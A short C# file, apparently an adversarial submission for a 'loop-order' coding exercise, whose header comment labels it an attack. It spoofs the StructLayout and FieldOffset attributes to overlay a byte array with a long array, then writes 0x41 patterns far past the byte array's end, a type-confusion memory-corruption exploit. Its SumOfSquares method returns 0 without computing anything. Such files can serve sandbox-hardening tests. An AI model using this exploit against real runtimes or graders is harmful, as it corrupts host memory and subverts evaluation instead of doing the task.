// exercise: loop-order
// attack: lays an array of numbers over an array of bytes, with a layout attribute of its own, and so writes where it likes
namespace @System.Runtime.InteropServices
{
    sealed class StructLayoutAttribute(short layout) : Attribute { public short Layout => layout; }
    sealed class FieldOffsetAttribute(int offset) : Attribute { public int Offset => offset; }
}

[System.Runtime.InteropServices.StructLayout((short)2)]
struct Both
{
    [System.Runtime.InteropServices.FieldOffset(0)] public byte[] Bytes;
    [System.Runtime.InteropServices.FieldOffset(0)] public long[] Longs;
}

static class Brightness
{
    public static long SumOfSquares(CountedGrid image)
    {
        Both both = default;
        both.Bytes = new byte[100_000];
        for (int i = 0; i < 100_000; i++) both.Longs[i] = 0x4141414141414141;
        return 0;
    }
}
